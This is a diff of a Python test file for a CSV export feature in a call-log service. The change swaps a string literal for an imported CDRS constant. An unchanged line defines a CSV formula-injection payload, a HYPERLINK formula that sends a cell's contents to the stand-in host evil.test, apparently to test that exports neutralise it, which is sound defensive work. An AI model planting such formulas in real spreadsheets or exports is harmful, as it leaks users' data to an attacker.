@@ -9,6 +9,7 @@ from fastapi.testclient import TestClient
 
 from _export_data import BASE_MS, Tenant, csv_rows, export, make_docs, new_tenant, put
 from atende_logs.export.columns import header
+from atende_logs.kinds import CDRS
 from atende_logs.storage import Store
 
 PAYLOAD = '=HYPERLINK("http://evil.test/?x="&A1;"Clique")'
@@ -25,7 +26,7 @@ def _tenant(store: Store) -> Tenant:
 
 def _row(body: bytes, delimiter: str = ",") -> dict[str, str]:
     head, row = csv_rows(body, delimiter)
-    assert head == header("cdrs")
+    assert head == header(CDRS)
     return dict(zip(head, row, strict=True))
 
 
